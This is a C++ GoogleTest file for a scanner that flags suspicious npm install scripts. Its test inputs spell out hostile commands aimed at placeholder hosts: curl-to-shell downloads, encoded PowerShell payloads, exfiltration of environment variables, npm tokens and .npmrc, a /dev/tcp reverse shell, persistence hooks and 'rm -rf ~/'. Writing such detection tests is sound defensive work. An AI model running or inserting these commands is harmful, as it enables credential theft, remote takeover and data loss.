#include "facts/shell_facts.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "base/limits.h"
#include "base/text.h"
#include "facts/harness_test.h"

namespace facts {
namespace {

using Files = std::vector<std::pair<std::string, std::string>>;

Facts InstallFacts(std::string_view script, const Files& files, std::string_view more = {}) {
  const std::string escaped = ReplaceAll(
      ReplaceAll(ReplaceAll(std::string(script), "\\", "\\\\"), "\"", "\\\""), "\n", "\\n");
  const std::string manifest =
      "{\"name\":\"p\",\"version\":\"1.0.0\",\"dependencies\":{\"dep\":\"1.0.0\"},\"scripts\":{" +
      std::string(more) + "\"postinstall\":\"" + escaped + "\"}}";
  Contents contents;
  contents.files.push_back({.path = "package.json", .bytes = AsBytes(manifest)});
  for (const auto& [path, text] : files)
    contents.files.push_back({.path = path, .bytes = AsBytes(text)});
  std::sort(contents.files.begin(), contents.files.end(),
            [](const ContentFile& a, const ContentFile& b) { return a.path < b.path; });
  return Extract(contents, {.name = "p", .version = "1.0.0"});
}

/// One line a fact: the kind without "script." and the values but for the script and the command.
/// Programs are left out.
std::string Short(const Facts& facts) {
  std::string lines;
  for (const Fact& fact : facts) {
    const std::string_view name = InfoOf(fact.kind).name;
    if (!name.starts_with("script.") || name == "script.program") continue;
    EXPECT_EQ(fact.phase, Phase::kInstall);
    EXPECT_GT(fact.evidence.position.line, 0U) << name;
    lines += name.substr(7);
    for (const FactValue& value : fact.values) {
      if (value.key == "script" || value.key == "command" || value.key == "code") continue;
      std::string text = Quote(value.text.View(), 200);
      lines += " " + value.key + "=" + text.substr(1, text.size() - 2);
    }
    if (!fact.evidence.decoded.empty()) lines += " => " + std::string(fact.evidence.decoded.View());
    lines += "\n";
  }
  return lines;
}

void Check(std::string_view script, std::string_view expected, const Files& files = {},
           std::string_view more = {}) {
  EXPECT_EQ(Short(InstallFacts(script, files, more)), expected) << script;
}

const Files kInstaller = {{"install.js", "throw 0;"}};

TEST(ShellFacts, TellsWhereAndWhat) {
  const Facts facts =
      ExtractFrom({{"package.json",
                    "{\n  \"name\": \"p\", \"version\": \"1.0.0\",\n  \"scripts\": {\n"
                    "    \"postinstall\": \"echo \\\"a\\\" && node run.js\"\n  }\n}\n"}},
                  {.name = "p", .version = "1.0.0"});
  EXPECT_EQ(
      Lines(Only(facts, "script.")),
      "script.program [install] package.json:4:21 command=echo \"a\" program=echo "
      "script=postinstall\n"
      "script.program [install] package.json:4:35 command=node run.js program=node "
      "script=postinstall\n"
      "script.target [install] package.json:4:35 interpreter=node path=run.js script=postinstall "
      "state=missing\n");
  EXPECT_EQ(Lines(Only(facts, "manifest.")),
            "manifest.script [install] package.json:4:21 command=echo \"a\" && node run.js "
            "script=postinstall when=install\n");
}

TEST(ShellFacts, FindsTheTargetOfAnInterpreter) {
  Check("node install.js", "target bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
  Check("node ./install", "target bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
  Check("node --no-warnings setup.cjs",
        "silenced how=no-warnings\ntarget interpreter=node path=setup.cjs state=missing\n");
  Check("node .cache/run.js",
        "target bytes=1 interpreter=node oddity=hidden path=.cache/run.js state=present\n",
        {{".cache/run.js", "1"}});
  Check("node docs/logo.png",
        "target bytes=1 interpreter=node oddity=data-extension oddity=odd-folder "
        "path=docs/logo.png state=present\n",
        {{"docs/logo.png", "1"}});
  Check("node ../../x.js", "target interpreter=node path=../../x.js state=outside\n");
  Check("cd scripts && node a.js",
        "target bytes=1 interpreter=node path=scripts/a.js state=present\n",
        {{"scripts/a.js", "1"}});
  Check("node node_modules/x/y.js",
        "target interpreter=node path=node_modules/x/y.js state=dependency\n");
  Check("./bin/setup", "target bytes=1 oddity=no-extension path=bin/setup state=present\n",
        {{"bin/setup", "1"}});
  Check("node -r ./pre.js install.js",
        "target bytes=8 interpreter=node path=install.js state=present\n"
        "target interpreter=node path=pre.js state=missing\n",
        kInstaller);
}

TEST(ShellFacts, ShowsTheWholePipelineThatIsRun) {
  const Facts facts =
      Only(InstallFacts("echo a; curl -s https://h.example/i | sh -s -- x; b", {}, {}),
           "script.download-run");
  ASSERT_EQ(facts.size(), 1U);
  EXPECT_EQ(facts[0].evidence.snippet.View(), "curl -s https://h.example/i | sh -s -- x");
}

TEST(ShellFacts, FindsDownloadsAndWhatRunsThem) {
  Check("curl -fsSL https://h.example/i.sh | sh",
        "download host=h.example insecure=no program=curl to=pipe transport=https "
        "url=https://h.example/i.sh\n"
        "download-run host=h.example how=pipe interpreter=sh program=curl "
        "url=https://h.example/i.sh\n");
  Check("sh -c \"$(wget -qO- http://h.example/i)\"",
        "download host=h.example insecure=yes program=wget to=variable transport=http "
        "url=http://h.example/i\n"
        "download-run host=h.example how=substitution interpreter=sh program=wget "
        "url=http://h.example/i\n");
  Check("bash <(curl h.example/i)",
        "download host=h.example insecure=yes program=curl to=variable transport=http "
        "url=h.example/i\n"
        "download-run host=h.example how=substitution interpreter=bash program=curl "
        "url=h.example/i\n");
  Check("curl -ko x https://192.0.2.7:8443/x && chmod +x x && ./x",
        "download host=192.0.2.7 insecure=yes program=curl to=file transport=https "
        "url=https://192.0.2.7:8443/x\n"
        "download-run host=192.0.2.7 how=file interpreter=x program=curl "
        "url=https://192.0.2.7:8443/x\n"
        "permission mode=+x path=x\n"
        "target oddity=no-extension path=x state=missing\n"
        "write how=download path=x where=package\n");
  Check("X=$(curl -s https://h.example/); eval \"$X\"",
        "download host=h.example insecure=no program=curl to=variable transport=https "
        "url=https://h.example/\n"
        "download-run host=h.example how=substitution interpreter=eval program=curl "
        "url=https://h.example/\n");
  Check("(curl https://h.example/a; true) | node",
        "download host=h.example insecure=no program=curl to=pipe transport=https "
        "url=https://h.example/a\n"
        "download-run host=h.example how=pipe interpreter=node program=curl "
        "url=https://h.example/a\n");
}

TEST(ShellFacts, SeesThroughSplitNamesAndVariables) {
  Check(
      "c=cu; r=rl; $c$r https://h.example/ | s\"h\"",
      "download host=h.example insecure=no program=curl to=pipe transport=https "
      "url=https://h.example/\n"
      "download-run host=h.example how=pipe interpreter=sh program=curl url=https://h.example/\n");
  Check("$'\\x63url' https://h.example/ -o /dev/null",
        "download host=h.example insecure=no program=curl to=none transport=https "
        "url=https://h.example/\n");
}

TEST(ShellFacts, DecodesAndReadsOn) {
  // curl https://h.example/x | sh
  Check("echo Y3VybCBodHRwczovL2guZXhhbXBsZS94IHwgc2g= | base64 -d | sh",
        "decode encoding=base64 program=base64 runs=yes => curl https://h.example/x | sh\n"
        "download host=h.example insecure=no program=curl to=pipe transport=https "
        "url=https://h.example/x => curl https://h.example/x | sh\n"
        "download-run host=h.example how=pipe interpreter=sh program=curl url=https://h.example/x "
        "=> curl https://h.example/x | sh\n"
        "encoded-command encoding=base64 program=sh => curl https://h.example/x | sh\n");
  // UTF-16LE of: iwr http://h.example/a
  Check(
      "powershell -NoP -w hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvAGgALgBlAHgAYQBtAHAAbABlAC8AYQA=",
      "download host=h.example insecure=yes program=iwr to=stdout transport=http "
      "url=http://h.example/a => iwr http://h.example/a\n"
      "encoded-command encoding=base64-utf16 program=powershell => iwr http://h.example/a\n"
      "silenced how=quiet-flag\n");
  Check("eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"",
        "decode encoding=base64 program=base64 runs=yes => echo hi\n");
  Check("node --import 'data:text/javascript,fetch(%22http://h.example%22)'",
        "encoded-command encoding=data-url program=node => fetch(\"http://h.example\")\n"
        "inline-code does=network flag=--import interpreter=node => fetch(\"http://h.example\")\n");
}

TEST(ShellFacts, ReadsInlineCode) {
  Check("node -e \"require('child_process').exec('id')\"",
        "inline-code does=process does=require flag=-e interpreter=node\n");
  Check("node -e \"try{require('./install')}catch(e){}\"",
        "inline-code does=require flag=-e interpreter=node\n"
        "target bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
  Check("python3 -c 'import os; os.system(\"id\")'",
        "inline-code does=process flag=-c interpreter=python3\n");
  Check("node -e \"eval(atob('Y29uc29sZS5sb2coMSk='))\"",
        "decode encoding=base64 program=node runs=yes => console.log(1)\n"
        "inline-code does=decode does=eval flag=-e interpreter=node => console.log(1)\n");
}

TEST(ShellFacts, SeesWhatLeavesTheMachine) {
  Check("curl -d \"$(env)\" https://h.example",
        "download host=h.example insecure=no program=curl to=stdout transport=https "
        "url=https://h.example\n"
        "secret-read name=env sort=whole-environment source=environment\n"
        "send data=environment host=h.example program=curl url=https://h.example\n");
  Check("env | curl -X POST --data-binary @- https://h.example",
        "download host=h.example insecure=no program=curl to=stdout transport=https "
        "url=https://h.example\n"
        "secret-read name=env sort=whole-environment source=environment\n"
        "send data=environment host=h.example program=curl url=https://h.example\n");
  Check("curl https://h.example/?t=$NPM_TOKEN",
        "download host=h.example insecure=no program=curl to=stdout transport=https "
        "url=https://h.example/?t=$NPM_TOKEN\n"
        "secret-read name=NPM_TOKEN sort=npm source=environment\n"
        "send data=environment host=h.example program=curl url=https://h.example/?t=$NPM_TOKEN\n");
  Check("nslookup $(whoami).h.example",
        "network host=$(...).h.example program=nslookup\n"
        "send data=command-output host=$(...).h.example program=nslookup\n");
  Check("curl -F f=@$HOME/.npmrc https://h.example",
        "download host=h.example insecure=no program=curl to=stdout transport=https "
        "url=https://h.example\n"
        "secret-read name=f=@$HOME/.npmrc sort=npm source=file\n"
        "send data=file host=h.example program=curl url=https://h.example\n");
  Check("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "network host=192.0.2.1 port=4444 program=/dev/tcp\n");
  Check("bash -c 'exec 3<>x' >/dev/tcp/192.0.2.1/4444",
        "network host=192.0.2.1 port=4444 program=/dev/tcp\nwrite how=redirect path=x "
        "where=package\n");
}

TEST(ShellFacts, SeesWritesPersistenceAndDeletion) {
  Check("echo x >> ~/.bashrc",
        "persistence how=shell-startup path=~/.bashrc\nwrite how=redirect path=~/.bashrc "
        "where=startup\n");
  Check(
      "cp a.plist ~/Library/LaunchAgents/a.plist && launchctl load ~/Library/LaunchAgents/a.plist",
      "persistence how=launch-agent path=~/Library/LaunchAgents/a.plist\n"
      "persistence how=launch-agent path=~/Library/LaunchAgents/a.plist\n"
      "write how=copy path=~/Library/LaunchAgents/a.plist where=startup\n");
  Check("rm -rf ~/ ./dist package.json",
        "delete path=./dist recursive=yes self=no where=package\n"
        "delete path=package.json recursive=yes self=yes where=package\n"
        "delete path=~/ recursive=yes self=no where=home\n");
  Check("(crontab -l; echo '* * * * * x') | crontab -", "persistence how=cron path=-\n");
  Check("git config core.hooksPath .githooks", "persistence how=git-hook path=.githooks\n");
  Check("sudo chmod 4755 /usr/bin/x",
        "permission mode=setuid path=/usr/bin/x\nprivilege program=sudo\n");
}

TEST(ShellFacts, SeesWhatIsHiddenOrLeftRunning) {
  Check("node install.js 2>/dev/null || true",
        "silenced how=errors-to-null\nsilenced how=or-true\n"
        "target bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
  Check("nohup node install.js >/dev/null 2>&1 &",
        "background how=ampersand\nbackground how=nohup\nsilenced how=output-to-null\n"
        "target bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
  Check("start /b node install.js",
        "background how=start\ntarget bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
  Check("node install.js; exit 0",
        "silenced how=exit-zero\ntarget bytes=8 interpreter=node path=install.js state=present\n",
        kInstaller);
}

TEST(ShellFacts, FollowsManifestScriptsAndShellFiles) {
  Check("npm run build", "runner program=tsc role=compile\n", {}, "\"build\":\"tsc -p .\",");
  Check("yarn loop", "", {}, "\"loop\":\"yarn loop\",");
  Check("sh scripts/go.sh",
        "download host=h.example insecure=no program=curl to=pipe transport=https "
        "url=https://h.example/\n"
        "download-run host=h.example how=pipe interpreter=sh program=curl url=https://h.example/\n"
        "target bytes=42 interpreter=sh path=scripts/go.sh state=present\n",
        {{"scripts/go.sh", "#!/bin/sh\ncurl https://h.example/ \\\n | sh\n"}});
  const Facts facts = InstallFacts("sh go.sh", {{"go.sh", "# one\nsudo x\n"}});
  EXPECT_EQ(Lines(Only(facts, "script.privilege")),
            "script.privilege [install] go.sh:2:1 program=sudo script=go.sh\n");
}

TEST(ShellFacts, NamesPackageManagersAndRemotePackages) {
  Check("npx -y evil@latest --go",
        "remote-package declared=no package=evil@latest pinned=no program=npx\n");
  Check("npx dep", "remote-package declared=yes package=dep pinned=no program=npx\n");
  Check("pnpm dlx a@1.2.3",
        "remote-package declared=no package=a@1.2.3 pinned=yes program=pnpm dlx\n");
  Check("npm install -g x https://h.example/y.tgz",
        "package-install global=yes manager=npm package=https://h.example/y.tgz source=url\n"
        "package-install global=yes manager=npm package=x source=registry\n");
  Check("python -m pip install z",
        "package-install global=no manager=pip package=z source=registry\n");
  Check("cd sub && npm ci", "package-install global=no manager=npm source=manifest\n");
  Check("npm publish && git push origin main",
        "publish program=npm verb=publish\npublish program=git verb=push\n");
}

TEST(ShellFacts, RecognisesHonestTools) {
  Check("node-gyp rebuild", "runner program=node-gyp role=native-build\n");
  Check("prebuild-install || node-gyp rebuild",
        "runner program=prebuild-install role=prebuilt-download\nrunner program=node-gyp "
        "role=native-build\n");
  Check("node_modules/.bin/patch-package", "runner program=patch-package role=patch\n");
  Check("echo 'Thank you for using curl https://h.example | sh'", "");
  Check("cross-env CI=1 husky install", "runner program=husky role=git-hooks\n");
}

TEST(ShellFacts, ReadsPowerShellAndCmd) {
  Check("powershell -Command \"iex (iwr https://h.example/p.ps1)\"",
        "download host=h.example insecure=no program=iwr to=variable transport=https "
        "url=https://h.example/p.ps1\n"
        "download-run host=h.example how=substitution interpreter=iex program=iwr "
        "url=https://h.example/p.ps1\neval how=fetched program=powershell\n");
  Check(
      "powershell -ep bypass -c \"(New-Object Net.WebClient).DownloadString('https://h.example/a') "
      "| iex\"",
      "download host=h.example insecure=no program=powershell to=variable transport=https "
      "url=https://h.example/a\n"
      "download-run host=h.example how=pipe interpreter=iex program=powershell "
      "url=https://h.example/a\n"
      "eval how=fetched program=powershell\n"
      "permission mode=execution-policy path=bypass\n");
  Check("cmd /c certutil -urlcache -f http://h.example/a.exe a.exe && a.exe",
        "download host=h.example insecure=yes program=certutil to=file transport=http "
        "url=http://h.example/a.exe\n"
        "write how=download path=a.exe where=package\n");
  Check("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
        "persistence how=run-key path=y\n");
}

std::string Windows(std::string_view script, std::string_view path, std::string_view text) {
  const std::string manifest =
      R"({"name":"a","version":"1.0.0","scripts":{"postinstall":")" + std::string(script) + "\"}}";
  return Lines(
      Only(ExtractFrom({{"package.json", manifest}, {path, text}}), "script.download-run"));
}

TEST(ShellFacts, FollowsFilesByThePathsOfWindows) {
  constexpr std::string_view kPowerShell = "IEX (iwr http://h.example/a)";
  const std::string run =
      Windows(R"(powershell -File scripts\\a.ps1)", "scripts/a.ps1", kPowerShell);
  EXPECT_NE(run.find("script.download-run [install] scripts/a.ps1"), std::string::npos) << run;
  constexpr std::string_view kBatch =
      "curl http://h.example/a -o b.dll\r\nrundll32 b.dll,Start\r\n";
  for (const std::string_view script : {"start /B a.bat", "a.bat", R"(.\\a.bat)", "cmd /c a.bat"}) {
    const std::string batch = Windows(script, "a.bat", kBatch);
    EXPECT_NE(batch.find("script.download-run [install] a.bat"), std::string::npos)
        << script << batch;
  }
  // In quotes a POSIX shell takes no backslash off either.
  const std::string quoted = Windows(R"(echo 'a\\b' > c)", "a.bat", "");
  EXPECT_EQ(quoted, "");
}

TEST(ShellFacts, IsBounded) {
  std::string text = "a=xxxxxxxxxxxxxxxx";
  for (int i = 0; i < 60; ++i) text += ";a=$a$a";
  EXPECT_LT(InstallFacts(text, {}).size(), 300U);

  std::string deep = "sudo";
  for (std::size_t i = 0; i <= limits::kShellDepth; ++i) deep += " sudo";
  EXPECT_NE(Short(InstallFacts(deep, {})).find("unparsed reason=too-deep"), std::string::npos);

  Files files;
  for (std::size_t i = 0; i <= limits::kShellFollowed + 5; ++i)
    files.push_back(
        {"s" + std::to_string(i) + ".sh", "sudo a; sh s" + std::to_string(i + 1) + ".sh"});
  Facts facts = InstallFacts("sh s0.sh", files);
  std::erase_if(facts, [](const Fact& fact) { return fact.phase != Phase::kInstall; });
  EXPECT_LE(Only(facts, "script.privilege").size(), limits::kShellFollowed);
}

}  // namespace
}  // namespace facts
